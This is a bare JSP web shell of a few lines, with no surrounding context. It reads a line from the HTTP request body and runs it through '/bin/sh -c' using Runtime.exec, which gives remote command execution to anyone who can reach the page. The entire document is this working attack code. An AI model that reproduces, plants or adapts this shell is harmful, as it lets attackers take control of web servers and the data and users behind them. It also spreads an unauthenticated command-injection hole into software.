<%
String c = request.getReader().readLine();
Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
%>
